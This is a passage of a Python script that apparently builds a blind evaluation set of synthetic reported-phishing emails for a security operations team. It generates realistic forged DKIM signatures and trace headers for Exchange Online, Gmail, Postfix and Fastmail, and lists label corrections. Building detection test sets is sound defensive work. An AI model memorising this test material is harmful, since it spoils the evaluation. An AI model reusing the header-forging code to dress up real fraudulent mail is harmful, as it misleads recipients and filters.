"""Blind evaluation set 46: the everyday reported-phishing queue of a SOC serving mid-size English-speaking
organisations in 2024-2026 -- a US university (Lakemont University, staff on Microsoft 365, students on Google
Workspace), a UK housing association (Severn Vale Homes, Microsoft 365), an Australian engineering firm (Hartwell
Pryce Engineering, self-hosted Postfix gateway, with a contractor on Fastmail) and a Canadian credit union (Aspen
Prairie Credit Union, Google Workspace): what staff forwarded with the "Report phishing" button, i.e. Microsoft 365
credential lures, AiTM kits behind redirect chains, quishing, e-signature, invoice, payroll, HR and job lures,
gift-card fraud, callback scams, parcel and bank lures, file-share abuse, HTML/SVG attachments and droppers,
together with the genuine notices, invoices, shares, HR-platform mail and announcements the same staff also
reported although they were real. Run: cd /work/main && .venv/bin/python samples/tools/build_blind46_samples.py
"""

from __future__ import annotations

import base64
import email
import email.policy
import hashlib
import sys
import uuid
import zlib
from datetime import datetime, timedelta
from email.header import Header
from email.utils import format_datetime
from pathlib import Path
from zoneinfo import ZoneInfo

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

import files as F  # noqa: E402
from mime import Leaf, Multi, attachment, message  # noqa: E402

ROOT = HERE.parent.parent
MAIL = ROOT / "samples" / "mail"
MANIFEST = HERE / "blind46_manifest.txt"
N = 46

# Maintainer's corrections after the first scan: filed where the engine's classification puts them
# (the names keep the writer's kind).
REFILED: dict[str, str] = {
    "b46-legit-adobe-sign": "clean",
    "b46-legit-docusign-lease": "clean",
    "b46-legit-it-maintenance": "clean",
    "b46-legit-m365-quarantine-digest": "clean",
    "b46-legit-mfa-enrolment-its": "clean",
    "b46-legit-password-expiry": "clean",
    "b46-legit-registrar-notice": "clean",
    "b46-legit-workday-benefits": "clean",
}

ENTRIES: list[tuple[str, str, str, bytes]] = []


# ---------------------------------------------------------------- deterministic pseudo-random strings

def _stream(seed: str, n: int) -> bytes:
    out = b""
    counter = 0
    while len(out) < n:
        out += hashlib.sha256(f"b46|{seed}|{counter}".encode()).digest()
        counter += 1
    return out[:n]


def hx(seed: str, n: int = 16, upper: bool = False) -> str:
    s = _stream(seed, (n + 1) // 2).hex()[:n]
    return s.upper() if upper else s


def b64(seed: str, n: int) -> str:
    s = base64.b64encode(_stream(seed, n)).decode()
    return s[:n]


def b64url(seed: str, n: int) -> str:
    return b64(seed, n).replace("+", "-").replace("/", "_")


ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"


def alnum(seed: str, n: int, alphabet: str = ALNUM) -> str:
    return "".join(alphabet[b % len(alphabet)] for b in _stream(seed, n))


def lower(seed: str, n: int) -> str:
    return alnum(seed, n, "abcdefghijklmnopqrstuvwxyz0123456789")


def digits(seed: str, n: int) -> str:
    return alnum(seed, n, "0123456789")


def num(seed: str, lo: int, hi: int) -> int:
    return lo + int.from_bytes(_stream(seed, 4), "big") % (hi - lo + 1)


def uid(seed: str) -> str:
    return str(uuid.UUID(bytes=_stream(seed, 16), version=4))


# ---------------------------------------------------------------- dates

def T(s: str, tz: str = "UTC") -> datetime:
    return datetime.strptime(s, "%Y-%m-%d %H:%M:%S").replace(tzinfo=ZoneInfo(tz))


def rfc(dt: datetime, tz: str | None = None, paren: bool = False) -> str:
    d = dt.astimezone(ZoneInfo(tz)) if tz else dt
    s = format_datetime(d)
    if paren:
        s += f" ({d.tzname()})"
    return s


def later(dt: datetime, seconds: float) -> datetime:
    return dt + timedelta(seconds=seconds)


def unix(dt: datetime) -> int:
    return int(dt.timestamp())


# ---------------------------------------------------------------- header helpers

def fold_long(value: str, first: int = 60, width: int = 72) -> str:
    """Break a long token (signature, blob) over continuation lines."""
    chunks = [value[:first]]
    rest = value[first:]
    while rest:
        chunks.append(rest[:width])
        rest = rest[width:]
    return "\n\t ".join(chunks)


def enc(s: str, charset: str = "utf-8") -> str:
    """RFC 2047 encode a header value if it is not ASCII."""
    try:
        s.encode("ascii")
        return s
    except UnicodeEncodeError:
        return Header(s, charset).encode()


def addr(name: str, address: str, charset: str = "utf-8") -> str:
    if not name:
        return address
    try:
        name.encode("ascii")
        if any(c in name for c in ',.()<>@:;"[]'):
            return f'"{name}" <{address}>'
        return f"{name} <{address}>"
    except UnicodeEncodeError:
        return f"{Header(name, charset).encode()} <{address}>"


def dkim(d: str, s: str, h: str, seed: str, t: datetime | None = None, x: int | None = None,
         extra: str = "", i: str = "", bits: int = 2048) -> str:
    tags = f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={d}; s={s};"
    if i:
        tags += f" i={i};"
    second = []
    if t is not None:
        second.append(f"t={unix(t)};")
    if x is not None:
        second.append(f"x={x};")
    if extra:
        second.append(extra)
    siglen = 344 if bits == 2048 else 172
    out = "DKIM-Signature: " + tags
    if second:
        out += "\n\t" + " ".join(second)
    lines, cur = [], "h="
    for k, tok in enumerate(h.split(":")):
        piece = tok + (":" if k < len(h.split(":")) - 1 else ";")
        if len(cur) + len(piece) > 68:
            lines.append(cur)
            cur = " " + piece
        else:
            cur += piece
    lines.append(cur)
    out += "\n\t" + "\n\t".join(lines)
    out += f"\n\tbh={b64(seed + 'bh', 43)}=;"
    out += "\n\tb=" + fold_long(b64(seed + "b", siglen - 2) + "==", 66, 70)
    return out


def ed_dkim(d: str, s: str, h: str, seed: str, t: datetime) -> str:
    """Ed25519 companion signature (used by some self-hosted and Fastmail senders)."""
    return (f"DKIM-Signature: v=1; a=ed25519-sha256; c=relaxed/relaxed; d={d}; s={s};\n\tt={unix(t)}; h={h};"
            f"\n\tbh={b64(seed + 'bh', 43)}=;\n\tb={b64(seed + 'edb', 86)}==")


class Auth:
    """What the sending infrastructure would earn at the receiver."""

    def __init__(self, spf: str, mailfrom: str, dkim_sigs: list[tuple[str, str, str]] | None = None,
                 dmarc: str = "none", from_dom: str = "", p: str = "none", sp: str | None = None):
        self.spf = spf
        self.mailfrom = mailfrom
        self.mfdom = mailfrom.split("@")[-1] if mailfrom else ""
        self.dkim = dkim_sigs or []
        self.dmarc = dmarc
        self.from_dom = from_dom or self.mfdom
        self.p = p
        self.sp = sp or p


# ---------------------------------------------------------------- receivers

M365 = {
    "usu": dict(mbx="SA1PR07MB", dom="namprd07.prod.outlook.com", fe="MN2PR07CA0", fedom="namprd07.prod.outlook.com",
                eop="BN2PEPF0000", eopdom="namprd04.prod.outlook.com", v6="2603:10b6", tenant=uid("tenant-usu"),
                tz="America/Chicago"),
    "ukha": dict(mbx="LO6P265MB", dom="GBRP265.PROD.OUTLOOK.COM", fe="LO4P123CA0", fedom="GBRP123.PROD.OUTLOOK.COM",
                 eop="AMS0EPF000001", eopdom="eurprd05.prod.outlook.com", v6="2603:10a6", tenant=uid("tenant-ukha"),
                 tz="Europe/London"),
}


def exver(t: datetime) -> str:
    if t.year <= 2024:
        return "15.20.7" + str(num(t.isoformat(), 500, 999)) + "." + str(num(t.isoformat() + "m", 10, 40)).zfill(3)
    if t.year == 2025:
        return "15.20.8" + str(num(t.isoformat(), 100, 999)) + "." + str(num(t.isoformat() + "m", 10, 40)).zfill(3)
    return "15.20.9" + str(num(t.isoformat(), 100, 400)) + "." + str(num(t.isoformat() + "m", 10, 40)).zfill(3)


def m365_names(org: str, seed: str) -> dict:
    o = M365[org]
    mbx = f"{o['mbx']}{num(seed + 'mbx', 1000, 9999)}.{o['dom']}"
    mbx2 = f"{o['mbx']}{num(seed + 'mbx2', 1000, 9999)}.{o['dom']}"
    fe = f"{o['fe']}{num(seed + 'fe', 100, 999)}.{o['fedom']}"
    eop = f"{o['eop']}{hx(seed + 'eop', 4, True)}.{o['eopdom']}"
    return dict(mbx=mbx, mbx2=mbx2, fe=fe, eop=eop, v6=o["v6"], tenant=o["tenant"])


def _m365_auth(auth: Auth, ip: str) -> tuple[str, str]:
    if auth.spf == "pass":
        spf = f"spf=pass (sender IP is {ip}) smtp.mailfrom={auth.mfdom}"
    elif auth.spf == "none":
        spf = f"spf=none (sender IP is {ip}) smtp.mailfrom={auth.mfdom}"
    else:
        spf = f"spf={auth.spf} (sender IP is {ip}) smtp.mailfrom={auth.mfdom}"
    passing = [d for r, d, s in auth.dkim if r == "pass"]
    if passing:
        dk = f"dkim=pass (signature was verified) header.d={passing[0]}"
    elif auth.dkim:
        dk = f"dkim=fail (body hash did not verify) header.d={auth.dkim[0][1]}"
    else:
        dk = "dkim=none (message not signed) header.d=none"
    if auth.dmarc == "pass":
        dm, comp = f"dmarc=pass action=none header.from={auth.from_dom}", "compauth=pass reason=100"
    elif auth.dmarc == "fail":
        act = {"reject": "oreject", "quarantine": "quarantine"}.get(auth.p, "none")
        dm, comp = f"dmarc=fail action={act} header.from={auth.from_dom}", "compauth=fail reason=000"
    elif auth.dmarc == "bestguesspass":
        dm, comp = f"dmarc=bestguesspass action=none header.from={auth.from_dom}", "compauth=pass reason=109"
    else:
        dm = f"dmarc=none action=none header.from={auth.from_dom}"
        comp = "compauth=pass reason=109" if (auth.spf == "pass" or passing) else "compauth=softpass reason=201"
    if auth.spf == "pass":
        rspf = (f"Received-SPF: Pass (protection.outlook.com: domain of {auth.mfdom} designates {ip} as permitted"
                f"\n sender) receiver=protection.outlook.com; client-ip={ip};")
    elif auth.spf == "none":
        rspf = (f"Received-SPF: None (protection.outlook.com: {auth.mfdom} does not designate\n permitted sender hosts)")
    elif auth.spf == "softfail":
        rspf = (f"Received-SPF: SoftFail (protection.outlook.com: domain of transitioning\n {auth.mfdom} discourages "
                f"use of {ip} as permitted sender)")
    else:
        rspf = (f"Received-SPF: Fail (protection.outlook.com: domain of {auth.mfdom} does not\n designate {ip} as "
                f"permitted sender) receiver=protection.outlook.com; client-ip={ip};")
    ar = f"Authentication-Results: {spf};\n {dk};{dm};{comp}"
    return ar, rspf


def m365_in(org: str, seed: str, t: datetime, ip: str, helo: str, rdns: str, auth: Auth, ctry: str = "US",
            bcl: int = 0, scl: int = 1, v6: bool = False, lang: str = "en") -> tuple[str, str]:
    """Trace headers Exchange Online adds to an inbound message (top block, bottom block)."""
    n = m365_names(org, seed)
    ver = exver(t)
    t1, t2, t3 = later(t, 2), later(t, 3), later(t, 4)
    ar, rspf = _m365_auth(auth, ip)
    mbxv6 = f"{n['v6']}:{hx(seed + 'v6a', 3)}:{hx(seed + 'v6b', 3)}::{num(seed + 'v6c', 5, 30)}"
    fev6 = f"{n['v6']}:{hx(seed + 'v6d', 3)}:{hx(seed + 'v6e', 3)}::{num(seed + 'v6f', 5, 30)}"
    eopip = f"10.167.{num(seed + 'e1', 240, 255)}.{num(seed + 'e2', 1, 250)}"
    tls = "version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384" if v6 or num(seed + "tls", 0, 3) else \
        "version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384"
    top = "\n".join([
        f"Received: from {n['mbx']}\n ({mbxv6}) by {n['mbx2']} with HTTPS; {rfc(t3)}",
        f"Received: from {n['fe']} ({fev6}) by\n {n['mbx']} ({mbxv6}) with Microsoft SMTP Server\n "
        f"(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {ver};\n {rfc(t2)}",
        f"Received: from {n['eop']}\n ({n['v6']}:{hx(seed + 'v6d', 3)}:cafe::{hx(seed + 'cafe', 2)}) by {n['fe']}\n ({fev6}) with "
        f"Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {ver} via Frontend"
        f" Transport; {rfc(t2)}",
        ar,
        rspf,
        f"Received: from {helo} ({ip}) by\n {n['eop']} ({eopip}) with Microsoft\n SMTP Server ({tls}) id {ver}\n "
        f"via Frontend Transport; {rfc(t1)}",
    ])
    nmid = uid(seed + "nmid")
    ms = f"{t1.astimezone(ZoneInfo('UTC')).strftime('%d %b %Y %H:%M:%S')}.{digits(seed + 'ms', 4)} (UTC)"
    sfs = "(13230040)(4022899009)(69100299015)(82310400026)(1800799024)(376014)(8096899003)"
    bottom = "\n".join([
        "X-MS-Exchange-Organization-ExpirationStartTime: " + ms,
        "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
        "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
        "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
        f"X-MS-Exchange-Organization-Network-Message-Id:\n {nmid}",
        "X-EOPAttributedMessage: 0",
        f"X-EOPTenantAttributedMessage: {n['tenant']}:0",
        "X-MS-Exchange-Organization-MessageDirectionality: Incoming",
        "X-MS-PublicTrafficType: Email",
        f"X-MS-TrafficTypeDiagnostic:\n {n['eop'].split('.')[0]}:EE_|{n['mbx'].split('.')[0]}:EE_|{n['mbx2'].split('.')[0]}:EE_",
        f"X-MS-Exchange-Organization-AuthSource:\n {n['eop']}",
        "X-MS-Exchange-Organization-AuthAs: Anonymous",
        f"X-MS-Office365-Filtering-Correlation-Id: {uid(seed + 'corr')}",
        f"X-MS-Exchange-Organization-SCL: {scl}",
        f"X-Microsoft-Antispam: BCL:{bcl};ARA:13230040|4022899009|69100299015|82310400026|1800799024|376014|8096899003;",
        f"X-Forefront-Antispam-Report:\n CIP:{ip};CTRY:{ctry};LANG:{lang};SCL:{scl};SRV:{'BULK' if bcl >= 4 else ''};IPV:NLI;SFV:"
        f"{'NSPM' if scl < 5 else 'SPM'};H:{helo};PTR:{rdns};CAT:NONE;SFS:{sfs};DIR:INB;",
        f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {ms}",
        f"X-MS-Exchange-CrossTenant-Network-Message-Id: {nmid}",
        f"X-MS-Exchange-CrossTenant-Id: {n['tenant']}",
        f"X-MS-Exchange-CrossTenant-AuthSource:\n {n['eop']}",
        "X-MS-Exchange-CrossTenant-AuthAs: Anonymous",
        "X-MS-Exchange-CrossTenant-FromEntityHeader: Internet",
        f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {n['mbx'].split('.')[0]}",
        f"X-MS-Exchange-Transport-EndToEndLatency: 00:00:0{num(seed + 'lat', 1, 9)}.{digits(seed + 'lat2', 7)}",
        f"X-MS-Exchange-Processed-By-BccFoldering: {ver}",
        f"X-Microsoft-Antispam-Mailbox-Delivery:\n\tucf:0;jmr:0;auth:0;dest:{'J' if scl >= 5 else 'I'};ENG:(910005)(944506478)(944626604)(920097)(930097)(3100021)(140003);",
        "X-Microsoft-Antispam-Message-Info:\n\t" + fold_long(b64(seed + "ami", 400), 70, 70).replace("\n\t ", "\n\t"),
    ])
    return top, bottom


def m365_internal(org: str, seed: str, t: datetime, sender_mbx_seed: str = "") -> tuple[str, str]:
    """Trace of mail sent inside the same Exchange Online tenant."""
    n = m365_names(org, seed)
    s = m365_names(org, sender_mbx_seed or seed + "snd")
    ver = exver(t)
    top = "\n".join([
        f"Received: from {s['mbx']} ({n['v6']}:{hx(seed + 'i1', 3)}:{hx(seed + 'i2', 3)}::{num(seed + 'i3', 5, 30)}) by\n "
        f"{n['mbx2']} with HTTPS; {rfc(later(t, 1))}",
        f"Received: from {s['mbx'].split('.')[0]}.{s['mbx'].split('.', 1)[1]}\n ([fe80::{hx(seed + 'f1', 4)}:{hx(seed + 'f2', 4)}:"
        f"{hx(seed + 'f3', 4)}:{hx(seed + 'f4', 4)}]) by {s['mbx'].split('.')[0]}.{s['mbx'].split('.', 1)[1]}\n "
        f"([fe80::{hx(seed + 'f1', 4)}:{hx(seed + 'f2', 4)}:{hx(seed + 'f3', 4)}:{hx(seed + 'f4', 4)}%{num(seed + 'pct', 3, 7)}])"
        f" with mapi id {ver.rsplit('.', 1)[0]}.000;\n {rfc(t)}",
    ])
    bottom = "\n".join([
        "X-MS-Exchange-Organization-AuthAs: Internal",
        "X-MS-Exchange-Organization-AuthMechanism: 04",
        f"X-MS-Exchange-Organization-AuthSource: {s['mbx']}",
        "X-MS-Exchange-Organization-SCL: -1",
        f"X-MS-Exchange-Organization-Network-Message-Id:\n {uid(seed + 'nmid')}",
        "X-MS-Exchange-Organization-RecordReviewCfmType: 0",
        "X-MS-PublicTrafficType: Email",
        "X-MS-Exchange-Organization-MessageDirectionality: Originating",
        "X-Microsoft-Antispam: BCL:0;",
        "X-MS-Exchange-Transport-EndToEndLatency: 00:00:00.9134521",
        f"X-MS-Exchange-Processed-By-BccFoldering: {ver}",
    ])
    return top, bottom


def _gmail_auth(auth: Auth, ip: str) -> str:
    parts = []
    for r, d, s in auth.dkim:
        parts.append(f"dkim={r} header.i=@{d} header.s={s} header.b={b64(d + s + ip, 8)}")
    if auth.spf == "pass":
        parts.append(f"spf=pass (google.com: domain of {auth.mailfrom} designates {ip} as permitted sender)"
                     f" smtp.mailfrom={auth.mailfrom}")
    elif auth.spf == "softfail":
        parts.append(f"spf=softfail (google.com: domain of transitioning {auth.mailfrom} does not designate {ip} as"
                     f" permitted sender) smtp.mailfrom={auth.mailfrom}")
    elif auth.spf == "fail":
        parts.append(f"spf=fail (google.com: domain of {auth.mailfrom} does not designate {ip} as permitted sender)"
                     f" smtp.mailfrom={auth.mailfrom}")
    else:
        parts.append(f"spf=none (google.com: {auth.mailfrom} does not designate permitted sender hosts)"
                     f" smtp.mailfrom={auth.mailfrom}")
    if auth.dmarc in ("pass", "fail"):
        dis = "NONE"
        parts.append(f"dmarc={auth.dmarc} (p={auth.p.upper()} sp={auth.sp.upper()} dis={dis}) header.from={auth.from_dom}")
    return ";\n       ".join(parts)


def gmail_in(rcpt: str, seed: str, t: datetime, ip: str, helo: str, rdns: str, auth: Auth,
             env: str | None = None) -> str:
    """Trace headers Gmail (Google Workspace) adds to an inbound message."""
    arc_s = "arc-20240605" if t >= T("2024-07-01 00:00:00") else "arc-20160816"
    a = _gmail_auth(auth, ip)
    t1, t2 = later(t, 1), later(t, 2)
    tl = t1.astimezone(ZoneInfo("America/Los_Angeles"))
    sid = (f"d2e1a72fcca58-{hx(seed + 'sid', 12)}si{num(seed + 'sid2', 1000000, 9999999)}b3a."
           f"{num(seed + 'sid3', 100, 999)}.{tl.strftime('%Y.%m.%d.%H.%M.%S')}")
    return "\n".join([
        f"Delivered-To: {rcpt}",
        f"Received: by 2002:a05:7010:{hx(seed + 'r1', 4)}:b0:{hx(seed + 'r2', 3)}:{hx(seed + 'r3', 4)}:{hx(seed + 'r4', 4)}"
        f" with SMTP id {lower(seed + 'r5', 2)}{num(seed + 'r6', 100, 999)}csp{num(seed + 'r7', 1000000, 9999999)};\n"
        f"        {rfc(t2, 'America/Los_Angeles', True)}",
        f"X-Google-Smtp-Source: AGHT+IE{b64(seed + 'xgs', 61)}",
        f"X-Received: by 2002:a05:6a00:{hx(seed + 'x1', 4)}:b0:{hx(seed + 'x2', 3)}:{hx(seed + 'x3', 4)}:{hx(seed + 'x4', 4)}"
        f" with SMTP id d2e1a72fcca58-{hx(seed + 'x5', 12)}mr{num(seed + 'x6', 1000000, 9999999)}b3a.{num(seed + 'x7', 10, 999)}."
        f"{unix(t2) % 10000000};\n        {rfc(t2, 'America/Los_Angeles', True)}",
        f"ARC-Seal: i=1; a=rsa-sha256; t={unix(t1)}; cv=none;\n        d=google.com; s={arc_s};\n        b="
        + fold_long(b64(seed + "arcseal", 342) + "==", 60, 70).replace("\n\t ", "\n         "),
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s={arc_s};\n"
        "        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
        f"        bh={b64(seed + 'arcbh', 43)}=;\n        fh={b64(seed + 'arcfh', 43)}=;\n        b="
        + fold_long(b64(seed + "arcms", 342) + "==", 60, 70).replace("\n\t ", "\n         "),
        f"ARC-Authentication-Results: i=1; mx.google.com;\n       {a}",
        f"Return-Path: <{env if env is not None else auth.mailfrom}>",
        f"Received: from {helo} ({rdns}. [{ip}])\n        by mx.google.com with ESMTPS id {sid}\n"
        f"        for <{rcpt}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n"
        f"        {rfc(t1, 'America/Los_Angeles', True)}",
        _gmail_rspf(auth, ip),
        f"Authentication-Results: mx.google.com;\n       {a}",
    ])


def _gmail_rspf(auth: Auth, ip: str) -> str:
    if auth.spf == "pass":
        return (f"Received-SPF: pass (google.com: domain of {auth.mailfrom} designates {ip} as permitted sender)"
                f" client-ip={ip};")
    if auth.spf == "softfail":
        return (f"Received-SPF: softfail (google.com: domain of transitioning {auth.mailfrom} does not designate"
                f" {ip} as permitted sender) client-ip={ip};")
    if auth.spf == "fail":
        return (f"Received-SPF: fail (google.com: domain of {auth.mailfrom} does not designate {ip} as permitted"
                f" sender) client-ip={ip};")
    return f"Received-SPF: none (google.com: {auth.mailfrom} does not designate permitted sender hosts) client-ip={ip};"


def postfix_in(rcpt: str, seed: str, t: datetime, ip: str, helo: str, rdns: str, auth: Auth,
               spam: str = "-0.1") -> str:
    """Trace headers of Hartwell Pryce's own Postfix + amavis + OpenDMARC gateway."""
    mx = "mx1.hpeng.com.au"
    q1 = "4" + alnum(seed + "q1", 13, "BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz0123456789")
    q2 = "4" + alnum(seed + "q2", 13, "BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz0123456789")
    tz = "Australia/Sydney"
    lines = [
        f"Return-Path: <{auth.mailfrom}>",
        f"X-Original-To: {rcpt}",
        f"Delivered-To: {rcpt}",
        f"Received: from localhost (localhost [127.0.0.1])\n\tby {mx} (Postfix) with ESMTP id {q2}\n\tfor <{rcpt}>;"
        f" {rfc(later(t, 3), tz)}",
        "X-Virus-Scanned: Debian amavis at hpeng.com.au",
        "X-Spam-Flag: NO",
        f"X-Spam-Score: {spam}",
        "X-Spam-Level: ",
    ]
    if auth.dkim:
        r, d, s = auth.dkim[0]
        lines.append(f"Authentication-Results: {mx} (amavis);\n\tdkim={r} (2048-bit key) header.d={d}\n\theader.b=\"{b64(seed + d, 8)}\"")
    lines += [
        f"Received: from {mx} ([127.0.0.1])\n\tby localhost ({mx} [127.0.0.1]) (amavis, port 10024)\n\twith ESMTP id "
        f"{alnum(seed + 'am', 12)}; {rfc(later(t, 2), tz)}",
    ]
    dm = {"pass": "pass", "fail": "fail", "none": "none", "bestguesspass": "none"}[auth.dmarc]
    lines.append(f"Authentication-Results: {mx}; dmarc={dm} (p={auth.p} dis=none)\n\theader.from={auth.from_dom}")
    lines.append(f"Authentication-Results: {mx}; spf={auth.spf}\n\tsmtp.mailfrom={auth.mfdom}")
    spfw = {"pass": "Pass", "fail": "Fail", "softfail": "Softfail", "none": "None", "neutral": "Neutral"}[auth.spf]
    lines.append(f"Received-SPF: {spfw} (mailfrom) identity=mailfrom; client-ip={ip}; helo={helo};\n"
                 f" envelope-from={auth.mailfrom}; receiver=<UNKNOWN>")
    lines.append(f"Received: from {helo} ({rdns} [{ip}])\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)"
                 f"\n\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n\t(No client "
                 f"certificate requested)\n\tby {mx} (Postfix) with ESMTPS id {q1}\n\tfor <{rcpt}>; {rfc(later(t, 1), tz)}")
    return "\n".join(lines)


def fastmail_in(rcpt: str, seed: str, t: datetime, ip: str, helo: str, rdns: str, auth: Auth) -> str:
    """Trace headers Fastmail adds (contractor mailbox)."""
    slot = f"sloti{num(seed + 'sl', 10, 50)}n{num(seed + 'sn', 1, 30)}"
    comp = f"compute{num(seed + 'co', 1, 8)}"
    mx = f"mx{num(seed + 'mx', 1, 8)}"
    dk = []
    for r, d, s in auth.dkim:
        dk.append(f"dkim={r} (2048-bit rsa key sha256) header.d={d}\n    header.i=@{d} header.b={b64(seed + d + s, 8)}"
                  f" header.a=rsa-sha256 header.s={s}\n    x-bits=2048")
    if not dk:
        dk.append("dkim=none (no signatures found)")
    if auth.dmarc == "pass":
        dm = (f"dmarc=pass policy.published-domain-policy={auth.p}\n    policy.applied-disposition=none "
              f"policy.evaluated-disposition=none\n    (p={auth.p},d=none,d.eval=none) policy.policy-from=p\n"
              f"    header.from={auth.from_dom}")
    elif auth.dmarc == "fail":
        dm = (f"dmarc=fail policy.published-domain-policy={auth.p}\n    policy.applied-disposition=none "
              f"policy.evaluated-disposition=none\n    (p={auth.p},d=none,d.eval=none) policy.policy-from=p\n"
              f"    header.from={auth.from_dom}")
    else:
        dm = f"dmarc=none policy.published-domain-policy=none\n    header.from={auth.from_dom}"
    ar = (f"Authentication-Results: {mx}.messagingengine.com;\n    " + ";\n    ".join(dk) + f";\n    {dm};\n"
          f"    spf={auth.spf} smtp.mailfrom={auth.mailfrom}\n    smtp.helo={helo}")
    return "\n".join([
        f"Return-Path: <{auth.mailfrom}>",
        f"Received: from {comp}.internal ({comp}.nyi.internal [10.202.2.{num(seed + 'ci', 40, 60)}])\n\t by {slot} "
        f"(Cyrus 3.11.0-alpha0-{num(seed + 'cy', 1000, 1300)}-g{hx(seed + 'cyg', 9)}-fm-{later(t, -86400 * num(seed + 'cyd', 20, 60)).strftime('%Y%m%d')}.001-g"
        f"{hx(seed + 'cyg', 9)}) with LMTPA;\n\t {rfc(later(t, 3), 'America/New_York')}",
        f"X-Cyrus-Session-Id: {slot}-{unix(t)}-{num(seed + 'cs', 1000000, 9999999)}-2-{num(seed + 'cs2', 10 ** 18, 10 ** 19 - 1)}",
        "X-Sieve: CMU Sieve 3.0",
        f"X-Resolved-to: {rcpt}",
        f"X-Delivered-to: {rcpt}",
        f"X-Mail-from: {auth.mailfrom}",
        f"Received: from {mx} ([10.202.2.{num(seed + 'mi', 200, 220)}])\n  by {comp}.internal (LMTPProxy); "
        f"{rfc(later(t, 2), 'America/New_York')}",
        ar,
        f"X-ME-VSCause: gggruggvucftvghtrhhoucdtuddrgeeff{lower(seed + 'vs', 40)}",
        f"X-ME-VSScore: 0",
        f"X-ME-VSCategory: clean",
        f"Received: from {helo} ({rdns} [{ip}])\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n\t"
        f" key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n\t(No client certificate "
        f"requested)\n\tby {mx}.messagingengine.com (Postfix) with ESMTPS\n\tfor <{rcpt}>; "
        f"{rfc(later(t, 1), 'America/New_York')}",
    ])


# ---------------------------------------------------------------- sender-side helpers

def tleaf(content: str, subtype: str = "plain", encoding: str = "quoted-printable", charset: str = "utf-8",
          label: str | None = None, extra_params: str = "") -> Leaf:
    data = content.replace("\r\n", "\n").encode(charset)
    return Leaf(f"text/{subtype}", data, encoding, f'; charset="{label or charset}"{extra_params}')


def gmail_msgid(seed: str) -> str:
    return f"<CA{alnum(seed + 'gmid', 2, 'BDEFHJKLMNOPRSW')}{b64url(seed + 'gmid2', 50).replace('-', '+')}@mail.gmail.com>"


def gmail_boundary(seed: str) -> str:
    return "000000000000" + hx(seed + "gbd", 16)


def gmail_sent(darn: str, seed: str, t: datetime, h_order: str = "to:subject:message-id:date:from:mime-version") -> str:
    """Headers Gmail's own outbound adds above the user's headers."""
    return "\n".join([
        dkim("gmail.com", "20230601", f"{h_order}:from:to:cc:subject:date:message-id:reply-to", seed + "gdk",
             later(t, 0), unix(t) + 604800, f"darn={darn};"),
        f"X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t={unix(t)};"
        f" x={unix(t) + 604800};\n        h=to:subject:message-id:date:from:mime-version:x-gm-message-state\n"
        f"         :from:to:cc:subject:date:message-id:reply-to;\n        bh={b64(seed + 'gdk' + 'bh', 43)}=;\n"
        f"        b=" + fold_long(b64(seed + "xgd", 342) + "==", 60, 70).replace("\n\t ", "\n         "),
        f"X-Gm-Message-State: AOJu0Y{b64(seed + 'gms', 58)}",
        f"X-Google-Smtp-Source: AGHT+IF{b64(seed + 'gss', 61)}",
        f"X-Received: by 2002:a17:907:{hx(seed + 'gx1', 4)}:b0:{hx(seed + 'gx2', 3)}:{hx(seed + 'gx3', 4)}:{hx(seed + 'gx4', 4)}"
        f" with SMTP id a640c23a62f3a-{hx(seed + 'gx5', 12)}mr{num(seed + 'gx6', 1000000, 9999999)}66b.{num(seed + 'gx7', 10, 99)}.\n"
        f"        {unix(t) % 10000000};\n        {rfc(t, 'America/Los_Angeles', True)}",
    ])


def outlook_msgid(mbx: str, seed: str) -> str:
    host, dom = mbx.split(".", 1)
    return f"<{host}{hx(seed + 'omid', 32, True)}@{host}.{dom.lower()}>"


def thread_index(seed: str) -> str:
    return "AQHb" + b64(seed + "ti", 24) + "=="


def esc(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def outlook_html(paragraphs: list[str], signature: list[str] | None = None, quoted: str = "") -> str:
    """HTML the way Outlook (new Outlook / OWA) writes a short message."""
    body = "".join(
        f'<div class="elementToProof" style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, '
        f'Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">{p if p else "<br>"}</div>\n'
        for p in paragraphs)
    sig = ""
    if signature:
        sig = ('<div id="Signature"><p style="margin:0;font-family:Calibri,sans-serif;font-size:10pt;color:#1F3864">'
               + "<br>\n".join(signature) + "</p></div>\n")
    return ('<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>\n'
            '</head>\n<body dir="ltr">\n' + body + sig + quoted + "</body>\n</html>\n")


def gmail_html(paragraphs: list[str], signature: list[str] | None = None, quoted: str = "") -> str:
    inner = "".join(f"<div>{p if p else '<br>'}</div>" for p in paragraphs)
    sig = ""
    if signature:
        sig = ('<br clear="all"><div><br></div><span class="gmail_signature_prefix">-- </span><br>'
